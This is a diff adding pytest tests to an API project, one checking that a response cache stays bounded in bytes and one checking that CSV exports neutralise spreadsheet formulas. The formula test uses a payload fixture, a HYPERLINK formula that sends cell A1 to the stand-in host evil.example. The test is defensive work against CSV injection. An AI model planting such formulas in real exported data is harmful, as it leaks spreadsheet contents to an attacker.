@@ -148,6 +148,58 @@ def test_batches_are_bounded(api):
     assert api.post("/api/articles", json=over, headers=AUTH).status_code == 422
 
 
+def _blob_app(calls: list[int]):
+    """An app whose GET /api/blob?n=… answers n bytes (at once, or streamed in
+    chunks), counting the requests that reach it past the cache."""
+    from fastapi import FastAPI, Response
+    from fastapi.responses import StreamingResponse
+
+    inner = FastAPI()
+
+    @inner.get("/api/blob")
+    def blob(n: int, chunks: int = 1) -> Response:
+        calls.append(n)
+        if chunks == 1:
+            return Response(b"x" * n, media_type="application/octet-stream")
+        return StreamingResponse(iter([b"x" * (n // chunks)] * chunks), media_type="application/octet-stream")
+
+    return inner
+
+
+def test_the_read_cache_is_bounded_in_bytes():
+    """The read cache holds at most max_bytes (64 MB by default) whatever is asked:
+    the oldest entries go first, and a response over max_entry (an eighth) is
+    served but never cached, nor buffered past that size."""
+    from vigile.api import CACHE_BYTES, _ResponseCache
+
+    default = _ResponseCache(None, ttl=10)
+    assert (default.max_bytes, default.max_entry) == (CACHE_BYTES, CACHE_BYTES // 8) and CACHE_BYTES <= 64 << 20
+    calls: list[int] = []
+    cache = _ResponseCache(_blob_app(calls), ttl=3600, max_bytes=100_000)
+    with LiveServer(cache) as live, httpx.Client(base_url=live.url, timeout=60) as client:
+        assert len(client.get("/api/blob", params={"n": 5_000}).content) == 5_000
+        assert len(client.get("/api/blob", params={"n": 5_000}).content) == 5_000
+        assert calls == [5_000]  # the second one came from the cache
+        for n in range(5_001, 5_100):  # 99 more distinct responses: ~500 KB asked in all
+            client.get("/api/blob", params={"n": n})
+            assert cache.bytes <= cache.max_bytes
+        assert 10 <= len(cache.entries) < 20 and cache.bytes == sum(
+            cache._cost(k, h, b) for k, (_, h, b) in cache.entries.items())
+        calls.clear()
+        client.get("/api/blob", params={"n": 5_000})  # the oldest was evicted
+        client.get("/api/blob", params={"n": 5_099})  # the newest was kept
+        assert calls == [5_000]
+
+        for chunks in (1, 10):  # over max_entry (12,500 bytes here), sent whole or streamed
+            calls.clear()
+            before = cache.bytes
+            for _ in range(2):
+                r = client.get("/api/blob", params={"n": 20_000, "chunks": chunks})
+                assert r.status_code == 200 and len(r.content) == 20_000
+            assert calls == [20_000, 20_000]  # served twice by the app: not cached
+            assert cache.bytes <= before and all(b"n=20000" not in k for k in cache.entries)
+
+
 # --- strict validation: 4xx, never 5xx ---------------------------------------------------------------------------
 
 BAD_BODIES = {
@@ -433,6 +485,43 @@ def test_markup_in_articles_comes_back_as_json_data(api):
     assert article.json()["text"] == XSS_ARTICLE.text  # verbatim, as data
     csv = api.get("/api/events", params={"format": "csv"})
     assert csv.headers["content-type"].startswith("text/csv")  # never text/html
+
+
+# --- spreadsheet formulas (CSV injection) ----------------------------------------------------------------------
+
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez ici")'
+
+
+def test_csv_cells_from_articles_cannot_run_as_formulas(tmp_path, pipeline):
+    """?format=csv of an event whose evidence and source begin with a formula: the
+    cells are prefixed with ' (shown as text by a spreadsheet), the numbers stay numbers."""
+    import csv
+    import io
+
+    db = str(tmp_path / "formula.db")
+    store = Store(db)
+    ingest([Article(id="formula", published="2017-03-20", source=FORMULA,
+                    text=f"{FORMULA} Lundi, au moins six civils ont été tués par des tirs d'obus sur Deraa.")],
+           store, pipeline)
+    store.close()
+    with LiveServer(create_app(db, token=TOKEN)) as live:
+        r = httpx.get(live.url + "/api/events", params={"format": "csv"}, timeout=60)
+        [event] = httpx.get(live.url + "/api/events", timeout=60).json()["events"]
+    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
+    assert event["evidence"].startswith(FORMULA) and FORMULA in event["sources"]  # JSON stays verbatim
+    [row] = list(csv.DictReader(io.StringIO(r.text)))
+    assert row["evidence"] == "'" + event["evidence"]
+    assert row["sources"].startswith("'" + FORMULA)
+    assert all(_number(cell) or not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values()), row
+    assert float(row["latitude"]) == event["location"]["lat"] and int(row["fatalities"]) == event["fatalities"]
+
+
+def _number(cell: str) -> bool:
+    try:
+        float(cell)
+    except ValueError:
+        return False
+    return True
 
 
 def test_the_dashboard_forbids_inline_script(api):
